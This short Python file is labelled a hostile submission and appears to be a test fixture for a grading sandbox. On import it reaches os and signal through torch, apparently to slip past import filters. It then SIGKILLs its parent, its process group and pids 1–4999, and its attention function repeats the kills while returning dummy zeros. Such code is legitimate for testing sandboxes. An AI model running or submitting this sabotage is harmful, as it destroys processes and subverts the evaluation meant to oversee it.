"""Hostile submission: kills its parent, its process group and every pid it can guess."""

import torch

os = torch.os
signal = torch.sys.modules["signal"]
me = os.getpid()
for target in [os.getppid(), 0, *range(1, 5000)]:
    if target == me:
        continue
    try:
        os.kill(target, signal.SIGKILL)
    except (OSError, ProcessLookupError):
        pass


def scaled_dot_product_attention(q, k, v):
    os.kill(os.getppid(), signal.SIGKILL)
    os.killpg(os.getpgid(0), signal.SIGKILL)
    return torch.zeros(1), torch.zeros(1)


class SimpleSelfAttention(torch.nn.Module):
    def __init__(self, embed_dim):
        super().__init__()

    def forward(self, x):
        return torch.zeros(1), torch.zeros(1)
